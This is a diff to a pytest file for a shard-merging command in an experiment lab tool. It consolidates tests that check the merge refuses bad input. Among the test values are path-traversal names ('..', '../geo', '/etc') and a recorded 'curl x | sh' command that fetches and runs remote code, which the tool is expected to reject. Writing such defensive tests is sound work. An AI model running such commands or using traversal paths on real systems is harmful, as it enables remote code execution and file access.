@@ -20,6 +20,7 @@ from tests.stored_run import rewrite, store_run
 
 COMMAND = ["lab", "run", "geo"]
 SENDERS = ("search", "cubic")
+OUTSIDE = (("..", "x"), ("geo", "../geo"), ("geo", "/etc"))
 
 
 def test_each_trial_is_of_one_shard_and_shards_are_of_one_size() -> None:
@@ -75,19 +76,15 @@ def test_merged_shards_are_one_complete_run_and_stay_as_they_are(shards: list[Pa
     assert [sorted(folder.rglob("*")) for folder in shards] == before
 
 
-def test_a_missing_shard_is_named(shards: list[Path]) -> None:
+def test_a_missing_shard_a_folder_that_is_none_and_one_given_twice_are_named(shards: list[Path]) -> None:
     with pytest.raises(UserError, match=r"^lab merge: missing shard 2/2: run the same command with --shard 2/2$"):
         merge(shards[:1])
-
-
-def test_a_folder_that_is_no_shard_is_named(shards: list[Path], tmp_path: Path) -> None:
     with pytest.raises(UserError, match=r"nix/shard\.json: No such file or directory: must be the folder of --out"):
-        merge([*shards, tmp_path / "nix"])
-
-
-def test_a_folder_given_twice_is_refused(shards: list[Path]) -> None:
+        merge([*shards, shards[0].parent / "nix"])
     with pytest.raises(UserError, match="folders: must be given once each"):
         merge([*shards, shards[0]])
+    with pytest.raises(UserError, match=r"shard\.json: shard=1/2: must be 2/2, or --out must be another folder"):
+        shard.begin(shards[0], Shard(2, 2))
 
 
 @pytest.mark.parametrize(
@@ -107,16 +104,19 @@ def test_shards_of_another_commit_kernel_or_request_are_refused(
         merge(shards)
 
 
-def test_a_shard_of_other_runs_is_refused(shards: list[Path]) -> None:
-    shard.write(shards[1], Shard(2, 2), {"leo": "x"}, COMMAND)
-    with pytest.raises(UserError, match=r"shard\.json: runs=leo: must be those of .*one: the same request"):
-        merge(shards)
-
-
-@pytest.mark.parametrize("runs", [{"..": "x"}, {"geo": "../geo"}, {"geo": "/etc"}])
-def test_a_shard_names_no_folder_outside_of_it(shards: list[Path], runs: dict[str, str]) -> None:
-    shard.write(shards[1], Shard(2, 2), runs, COMMAND)
-    with pytest.raises(UserError, match=r"shard\.json: name=.*: must be letters, digits and _ \. - only"):
+@pytest.mark.parametrize(
+    ("runs", "command", "line"),
+    [
+        ({"leo": "x"}, COMMAND, r"runs=leo: must be those of .*one: the same request"),
+        *(({name: of}, COMMAND, r"name=.*: must be letters, digits and _ \. - only") for name, of in OUTSIDE),
+        ({"geo": "x"}, ["sh", "-c", "curl x | sh"], r"command=sh: must be a command of the lab"),
+    ],
+)
+def test_a_shard_of_other_runs_or_of_another_program_is_refused_and_names_no_folder_outside_of_it(
+    shards: list[Path], runs: dict[str, str], command: list[str], line: str
+) -> None:
+    shard.write(shards[1], Shard(2, 2), runs, command)
+    with pytest.raises(UserError, match=rf"shard\.json: {line}"):
         merge(shards)
 
 
@@ -124,12 +124,6 @@ def test_a_shard_names_no_folder_outside_of_it(shards: list[Path], runs: dict[st
 def test_a_trial_with_more_than_plain_files_is_not_copied(shards: list[Path], make: Callable[[Path], None]) -> None:
     make(run_of(shards[1]) / "trials/cubic-001/more")
     with pytest.raises(UserError, match=r"cubic-001/more: must be a plain file, no folder, link or pipe"):
-        merge(shards)
-
-
-def test_a_shard_shows_no_command_of_another_program(shards: list[Path]) -> None:
-    shard.write(shards[1], Shard(2, 2), {"geo": "x"}, ["sh", "-c", "curl x | sh"])
-    with pytest.raises(UserError, match=r"shard\.json: command=sh: must be a command of the lab"):
         merge(shards)
 
 
@@ -158,8 +152,3 @@ def test_a_shard_twice_is_taken_if_its_trials_are_the_same(shards: list[Path], t
     write_digests(trial)
     with pytest.raises(UserError, match=r"again/geo/\w+/trials/cubic-001: packet 5: must be the same as in .*two"):
         merge([*shards, again])
-
-
-def test_the_folder_of_another_shard_is_refused(shards: list[Path]) -> None:
-    with pytest.raises(UserError, match=r"shard\.json: shard=1/2: must be 2/2, or --out must be another folder"):
-        shard.begin(shards[0], Shard(2, 2))
